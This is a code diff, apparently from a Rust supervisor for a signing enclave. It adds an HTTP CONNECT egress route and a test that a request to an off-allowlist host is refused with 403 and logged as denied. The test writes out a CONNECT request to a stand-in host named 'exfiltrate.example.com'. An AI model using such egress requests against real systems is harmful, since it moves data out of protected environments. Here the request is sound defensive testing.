@@ -104,6 +104,11 @@ to = "127.0.0.1:{kms_port}"
 host = "127.0.0.1/32"
 port = {kms_port}
 
+# Anything else the enclave asks for by HTTP CONNECT: nothing else is allowed.
+[[egress.route]]
+listen = "vsock://any:8081"
+http_connect = true
+
 [shutdown]
 drain_timeout = "5s"
 
@@ -494,6 +499,35 @@ async fn supervises_gates_restarts_and_drains() {
     // Signatures through the TCP ingress, checked by independent verifiers.
     sign(&s, &ingress, ETH, Scheme::EcdsaSecp256k1, b"a transaction").await;
     sign(&s, &ingress, SOL, Scheme::Ed25519, b"a Solana message").await;
+
+    // Egress to a host off the allowlist, asked for from the enclave's side: refused and logged.
+    let mut e = Transport::simulated(s.dir.join("vsock"), 16)
+        .connect(&"vsock://3:8081".parse().unwrap(), Duration::from_secs(5))
+        .await
+        .unwrap();
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    e.write_all(
+        b"CONNECT exfiltrate.example.com:443 HTTP/1.1\r\nHost: exfiltrate.example.com:443\r\n\r\n",
+    )
+    .await
+    .unwrap();
+    let mut answer = Vec::new();
+    let _ = tokio::time::timeout(Duration::from_secs(10), e.read_to_end(&mut answer)).await;
+    assert!(
+        answer.starts_with(b"HTTP/1.1 403"),
+        "{}",
+        String::from_utf8_lossy(&answer)
+    );
+    let mut from = 0;
+    let denial = loop {
+        let (i, v) = agent.event_after("egress_decision", from);
+        if v["decision"] == "deny" {
+            break v;
+        }
+        from = i + 1;
+    };
+    assert_eq!(denial["reason"], "no_matching_entry", "{denial}");
+    assert_eq!(denial["destination"], "exfiltrate.example.com:443");
 
     let (code, metrics) = get(&health, "/metrics");
     assert_eq!(code, 200);
